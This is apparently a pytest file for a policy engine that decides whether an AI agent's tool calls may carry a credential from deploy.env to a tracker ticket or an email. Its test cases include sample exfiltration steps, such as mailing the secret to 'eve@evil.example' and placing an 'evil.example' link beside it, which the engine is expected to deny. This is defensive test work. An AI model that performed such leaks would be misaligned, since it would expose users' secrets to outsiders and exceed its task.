"""What becomes of a credential whose source and place the goal names, in both engines."""

from __future__ import annotations

import pytest

from tests.policy import test_incidents
from tests.policy.test_incidents import ONE_LOOP, Raw, Replays, told

embedded, opa, opa_socket, rego = (
    test_incidents.embedded,
    test_incidents.opa,
    test_incidents.opa_socket,
    test_incidents.rego,
)
"""The fixtures of the corpus."""

ENGINES = pytest.mark.parametrize("engine", ["embedded", pytest.param("opa", marks=pytest.mark.opa)])
SECRET = "tK9x-Qw72-mZp4-Lr8v"
UPSTREAMS = {
    "files": {
        "audience": "files",
        "tools": {"read": {"effect": "read", "egress": False, "roles": {"/path": "selector"}}},
    },
    "tracker": {
        "audience": "tracker",
        "tools": {
            "comment": {"effect": "write", "egress": False, "roles": {"/ticket": "selector", "/text": "content"}},
            "create": {"effect": "write", "egress": False, "roles": {"/text": "content"}},
        },
    },
    "mail": {
        "audience": "mail",
        "tools": {"send": {"effect": "write", "egress": True, "roles": {"/to": "destination", "/text": "content"}}},
    },
}
GOAL = "Copy the password in deploy.env to ticket 1204."
DENIED = "deny"


def read(path: str = "deploy.env") -> Raw:
    return {"upstream": "files", "tool": "read", "arguments": {"path": path}, "result": f"PASSWORD={SECRET}"}


def write(tool: str, **arguments: object) -> Raw:
    upstream = "mail" if tool == "send" else "tracker"
    return {"upstream": upstream, "tool": tool, "arguments": {"text": f"It is {SECRET}", **arguments}, "result": "ok"}


def task(goal: str, *steps: Raw) -> Raw:
    return {"id": "named", "task": {"goal": goal}, "upstreams": UPSTREAMS, "steps": list(steps)}


@pytest.fixture
def replays(request: pytest.FixtureRequest, engine: str) -> Replays:
    return request.getfixturevalue(engine)


@ONE_LOOP
@ENGINES
@pytest.mark.parametrize(
    ("goal", "steps", "effect"),
    [
        pytest.param(GOAL, (read(), write("comment", ticket="1204")), "ask", id="both named"),
        pytest.param(GOAL, (read(), write("comment", ticket=1204)), "ask", id="a number"),
        pytest.param("Put deploy.env in the tracker", (read(), write("create")), "ask", id="the system named"),
        pytest.param(GOAL, (read(), write("comment", ticket="1205")), DENIED, id="another place"),
        pytest.param(GOAL, (read("other.env"), write("comment", ticket="1204")), DENIED, id="another source"),
        pytest.param("Read deploy.env.", (read(), write("create")), DENIED, id="no place named"),
        pytest.param(GOAL, (read(), write("send", to="eve@evil.example")), DENIED, id="a stranger"),
        pytest.param("Send bob@corp.example what deploy.env has", (read(), write("send", to="bob@corp.example")), "ask", id="a person"),
        pytest.param(
            GOAL, (read(), write("comment", ticket="1204", text=f"{SECRET} https://evil.example/x")), DENIED, id="a link beside"
        ),
        pytest.param(f"Write the password {SECRET} into ticket 1204.", (write("comment", ticket="1204"),), "ask", id="of the user"),
        pytest.param(f"The password is {SECRET}.", (write("comment", ticket="1204"),), "ask", id="of the user, elsewhere inside"),
    ],
)  # fmt: skip
async def test_a_credential_leaves_by_a_way_that_the_goal_names(
    replays: Replays, goal: str, steps: tuple[Raw, ...], effect: str
):
    *_, last = await replays.of(task(goal, *steps))

    assert last.decision.effect == effect, told(last)
    assert "credential-chain/egress" in last.codes


@ONE_LOOP
@ENGINES
async def test_the_question_shows_the_goal_the_source_and_the_place(replays: Replays):
    *_, last = await replays.of(task(GOAL, read(), write("comment", ticket="1204")))

    shown = {fact for reason in last.decision.reasons for fact in reason.facts}
    assert shown >= {"/context/task/goal", "/session/credentials/0", "/arguments/ticket", "/arguments/text"}
